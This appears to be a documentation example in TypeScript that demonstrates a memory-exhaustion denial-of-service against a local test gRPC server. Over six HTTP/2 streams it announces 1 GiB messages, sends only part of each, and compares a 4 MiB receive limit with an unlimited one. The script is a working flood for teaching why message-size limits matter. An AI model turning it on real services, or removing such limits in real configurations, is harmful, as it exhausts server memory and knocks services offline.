import * as http2 from 'node:http2';
import { serve } from '../_harness/shop.ts';

// region: show
const head = Buffer.from([0, 0x40, 0, 0, 0]); // "here comes a message of 1 GiB"
const chunk = Buffer.alloc(1024 * 1024);

for (const limit of [4 * 1024 * 1024, -1]) {
  let handled = 0;
  const server = await serve(
    { createOrder: () => (handled += 1) },
    { options: { 'grpc.max_receive_message_length': limit } }, // mark
  );
  const attacker = http2.connect(`http://${server.address}`);
  const before = process.memoryUsage().arrayBuffers;
  for (let stream = 0; stream < 6; stream += 1) {
    const call = attacker.request({
      ':method': 'POST',
      ':path': '/shop.v1.Orders/CreateOrder',
      'content-type': 'application/grpc',
      te: 'trailers',
    });
    call.on('error', () => undefined);
    call.write(head);
    for (let i = 0; i < 32 && !call.closed; i += 1) {
      await new Promise((resolve) => call.write(chunk, resolve)); // 32 MiB, and never the rest
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 800));
  const held = (process.memoryUsage().arrayBuffers - before) / 1024 / 1024;
  console.log(
    `limit ${limit}: handlers called ${handled}, holds 100 MiB and more: ${held >= 100}`,
  );
  attacker.destroy();
  await server.close();
}
// endregion: show
